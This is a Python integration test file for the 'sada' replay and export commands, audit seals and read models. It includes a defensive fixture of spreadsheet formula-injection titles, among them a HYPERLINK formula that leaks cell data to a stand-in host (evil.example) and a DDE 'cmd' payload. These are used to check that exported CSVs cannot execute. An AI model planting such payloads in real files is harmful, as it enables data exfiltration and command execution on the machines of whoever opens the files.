"""`sada replay`, `sada export` and the seals in the read models, on a real SQLite log and a
real SecantusDB: a generated city sealed as it grew, then projected."""

from __future__ import annotations

import csv
import json
import os
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner
from pymongo import MongoClient
from pymongo.database import Database

from reporting import export, provenance
from reporting.app import create_app
from reporting.compare import fingerprint
from reporting.history import HISTORY, EventHistory
from reporting.projector import Projector
from reporting.readmodels import DEMANDS
from routing.worker import RoutingWorker
from sada.cli import main as sada
from sada.processes import free_port
from services import config
from services.audit.verify import from_log, verify
from services.eventlog.sqlite import SqliteEventLog
from services.events.families.audit import AUDIT_STREAM_ID, SEAL
from services.spreadsheet import original
from tests.audit_streams import grow_sealed
from tests.auth_helpers import ENV, authorize
from tests.integration.test_reporting_stream import Desk
from tests.projected import project


@dataclass
class Sealed:
    path: Path
    db: Database
    events: int
    seals: int

    def env(self) -> dict[str, str]:
        client = self.db.client
        host, port = next(iter(client.nodes))
        return {"SADA_EVENT_LOG": "sqlite", "SADA_SQLITE_PATH": str(self.path),
                "SADA_DATA_DIR": str(self.path.parent),
                "SADA_MONGO_URL": f"mongodb://{host}:{port}", "SADA_MONGO_DB": self.db.name}


@pytest.fixture
def sealed(tmp_path, mongo_db) -> Iterator[Sealed]:
    desk = Desk(seed=21)
    desk.random_stream(demands=40, actions=110)
    path = tmp_path / "events.sqlite3"
    with SqliteEventLog(path, synchronous="OFF") as log:
        sealer = grow_sealed(log, desk.events, every=60, batch=40)
        projector = Projector(log, mongo_db)
        projector.models.ensure_indexes()
        projector.apply_batch(log.read({}, limit=100_000))
        yield Sealed(path, mongo_db, len(desk.events), sealer.seals_appended)


@pytest.fixture
def other_db(mongo_url) -> Iterator[str]:
    name = f"t_into_{Path(__file__).stem[-6:]}"
    yield name
    with MongoClient(mongo_url) as client:
        client.drop_database(name)


def test_seals_are_history_only_and_routing_ignores_them(sealed) -> None:
    assert sealed.seals >= 3
    assert sealed.db[DEMANDS].find_one({"_id": AUDIT_STREAM_ID}) is None
    assert EventHistory(sealed.db[HISTORY]).count_documents({"type": SEAL}) == sealed.seals
    with SqliteEventLog(sealed.path) as log:
        worker = RoutingWorker(log, poll_timeout=0.0)
        worker.start()
        worker.drain()
        worker.close()
        assert worker.decisions_appended == 0  # no "unknown demand" for a seal


def test_the_latest_seal_is_served_for_publishing(sealed) -> None:
    with SqliteEventLog(sealed.path) as log:
        report = verify(from_log(log))
        app = create_app(config.load(ENV), log=log, db=sealed.db)
    client = authorize(app.test_client(), "auditor")
    r = client.get("/audit/seal")
    assert r.status_code == 200, r.get_data(as_text=True)
    body = r.get_json()
    latest = body["partitions"]["0"]
    assert latest["chain_digest"] == report.chains[0].sealed_digest.hex()
    assert latest["count"] == report.chains[0].sealed_count
    assert body["published"] == f"0:{latest['count']}:{latest['chain_digest']}"
    assert latest["jalali"].startswith("14")
    listed = client.get("/audit/seals", query_string={"limit": 2}).get_json()
    assert listed["count"] == 2 and listed["items"][0] == latest
    assert client.get("/audit/seals", query_string={"limit": 0}).status_code == 422


def test_no_seal_yet_is_a_json_404(tmp_path, mongo_db) -> None:
    with SqliteEventLog(tmp_path / "events.sqlite3") as log:
        app = create_app(config.load(ENV), log=log, db=mongo_db)
    r = authorize(app.test_client(), "auditor").get("/audit/seal")
    assert r.status_code == 404 and "nothing is sealed" in r.get_json()["message"]


def test_replay_into_a_separate_database_equals_the_live_models(sealed, other_db) -> None:
    live = fingerprint(sealed.db)
    result = CliRunner(env=sealed.env()).invoke(sada, ["replay", "--into", other_db])
    assert result.exit_code == 0, result.output
    total = sealed.events + sealed.seals
    assert f"replayed {total} events" in result.output and "events/s" in result.output
    assert f"replayed {total:,} of {total:,} events (100%)" in result.output  # progress, ETA
    assert "ETA" in result.output
    assert "the rebuilt read models equal the live ones" in result.output
    assert "time-travel snapshots rebuilt: 0" in result.output  # fewer than 5000 events
    stats = json.loads(result.output.strip().splitlines()[-1])
    assert stats["events"] == total and stats["equal_to_live"] is True
    assert fingerprint(sealed.db) == live  # the live models were left alone
    assert fingerprint(sealed.db.client[other_db]) == live


def test_replay_names_what_differs_from_the_live_models(sealed, other_db) -> None:
    doc = sealed.db[DEMANDS].find_one({"status": "resolved"})
    sealed.db[DEMANDS].update_one({"_id": doc["_id"]}, {"$set": {"status": "rejected"}})
    result = CliRunner(env=sealed.env()).invoke(sada, ["replay", "--into", other_db])
    assert result.exit_code == 1
    assert f"demands: document {doc['_id']} differs in status" in result.output


def test_replay_in_place_rebuilds_the_same_models(sealed) -> None:
    before = fingerprint(sealed.db)
    result = CliRunner(env=sealed.env()).invoke(sada, ["replay", "--no-snapshots"])
    assert result.exit_code == 0, result.output
    assert "equal the live ones" in result.output and "snapshots" not in result.output
    assert fingerprint(sealed.db) == before


def test_replay_refuses_to_replay_into_the_live_database(sealed) -> None:
    result = CliRunner(env=sealed.env()).invoke(sada, ["replay", "--into", sealed.db.name])
    assert result.exit_code == 2 and "live database" in result.output


def test_replay_refuses_read_models_built_from_another_log(sealed, tmp_path) -> None:
    first = CliRunner(env=sealed.env()).invoke(sada, ["replay", "--no-snapshots"])
    assert first.exit_code == 0, first.output
    assert provenance.built_from(sealed.db) is not None
    before = fingerprint(sealed.db)
    other = tmp_path / "other" / "events.sqlite3"
    desk = Desk(seed=5)
    desk.random_stream(demands=3, actions=5)
    with SqliteEventLog(other) as log:
        log.append(desk.events)

    env = {**sealed.env(), "SADA_SQLITE_PATH": str(other)}
    result = CliRunner(env=env).invoke(sada, ["replay", "--no-snapshots"])

    assert result.exit_code != 0
    assert "refusing to replay" in result.output
    assert fingerprint(sealed.db) == before  # nothing dropped, nothing rebuilt


def test_an_unreachable_mongodb_is_one_clear_line_within_seconds(tmp_path) -> None:
    env = {"SADA_DATA_DIR": str(tmp_path), "SADA_SQLITE_PATH": str(tmp_path / "e.sqlite3"),
           "SADA_MONGO_URL": f"mongodb://127.0.0.1:{free_port()}"}
    started = time.monotonic()
    result = CliRunner(env=env).invoke(sada, ["replay"])
    assert time.monotonic() - started < 10
    assert result.exit_code == 1
    assert result.output.strip().startswith("Error: cannot reach MongoDB at mongodb://127.0.0.1:")
    assert len(result.output.strip().splitlines()) == 1


def test_export_writes_the_log_and_the_read_models(sealed, tmp_path) -> None:
    out = tmp_path / "export"
    result = CliRunner(env=sealed.env()).invoke(sada, ["export", str(out)])
    assert result.exit_code == 0, result.output
    manifest = json.loads((out / "manifest.json").read_text())
    files = manifest["files"]
    assert files["log.jsonl"]["rows"] == sealed.events + sealed.seals
    assert manifest["log_end_offsets"] == {"0": sealed.events + sealed.seals}
    with open(out / "demands.csv", encoding="utf-8") as f:
        demands = list(csv.DictReader(f))
    assert len(demands) == files["demands.csv"]["rows"] == sealed.db[DEMANDS].count_documents({})
    stored = sealed.db[DEMANDS].find_one({"_id": demands[0]["demand_id"]})
    assert demands[0]["title"] == stored["title"]  # Persian, as it is
    assert json.loads(demands[0]["requester"]) == stored["requester"]
    with open(out / "history.csv", encoding="utf-8") as f:
        history = list(csv.DictReader(f))
    assert [int(h["offset"]) for h in history] == list(range(sealed.events + sealed.seals))
    verified = CliRunner().invoke(sada, ["verify", str(out)])
    assert verified.exit_code == 0, verified.output


# -- files auditors open --------------------------------------------------------------------
FORMULA_TITLES = ['=HYPERLINK("https://evil.example/?d="&A1,"جزئیات")', "@SUM(A1:A9)",
                  "+98 21 1234", "-1+1", "=cmd|' /C calc'!A0", "'quoted"]


@pytest.fixture
def formulas(tmp_path, mongo_db) -> Sealed:
    """A city whose citizens typed titles a spreadsheet would run as formulas."""
    desk = Desk(seed=5)
    for title in FORMULA_TITLES:
        desk.submit(district=21, title=title)
    desk.flush()
    path = tmp_path / "events.sqlite3"
    project(desk.events, mongo_db, path)
    return Sealed(path, mongo_db, len(desk.events), 0)


def test_export_writes_no_cell_a_spreadsheet_would_run(formulas, tmp_path) -> None:
    out = tmp_path / "export"
    result = CliRunner(env=formulas.env()).invoke(sada, ["export", str(out)])
    assert result.exit_code == 0, result.output
    for name in ("demands.csv", "history.csv"):
        with open(out / name, encoding="utf-8", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not live, (name, live)
    with open(out / "demands.csv", encoding="utf-8", newline="") as f:
        titles = sorted(original(row["title"]) for row in csv.DictReader(f))
    assert titles == sorted(FORMULA_TITLES)  # every value reads back exactly


def test_export_never_writes_through_a_planted_symlink(formulas, tmp_path) -> None:
    out, victim = tmp_path / "export", tmp_path / "victim.txt"
    out.mkdir()
    victim.write_text("precious\n")
    (out / "demands.csv").symlink_to(victim)
    for args in (["export", str(out)], ["export", "--force", str(out)]):
        result = CliRunner(env=formulas.env()).invoke(sada, args)
        assert result.exit_code == 1 and "symlink" in result.output, result.output
        assert victim.read_text() == "precious\n"
        assert sorted(p.name for p in out.iterdir()) == ["demands.csv"]


def test_export_replaces_files_only_when_forced_and_never_through_a_link(formulas,
                                                                          tmp_path) -> None:
    out = tmp_path / "export"
    assert CliRunner(env=formulas.env()).invoke(sada, ["export", str(out)]).exit_code == 0
    again = CliRunner(env=formulas.env()).invoke(sada, ["export", str(out)])
    assert again.exit_code == 1 and "not empty" in again.output and "--force" in again.output
    # A hard link to the export's file: replacing the file must not write into the other name.
    outside = tmp_path / "outside.csv"
    os.link(out / "history.csv", outside)
    before = outside.read_bytes()
    forced = CliRunner(env=formulas.env()).invoke(sada, ["export", "--force", str(out)])
    assert forced.exit_code == 0, forced.output
    assert outside.read_bytes() == before and not os.path.samefile(outside, out / "history.csv")
    assert sorted(p.name for p in out.iterdir()) == sorted(export.FILES)  # no temporary left
    assert CliRunner().invoke(sada, ["verify", str(out)]).exit_code == 0
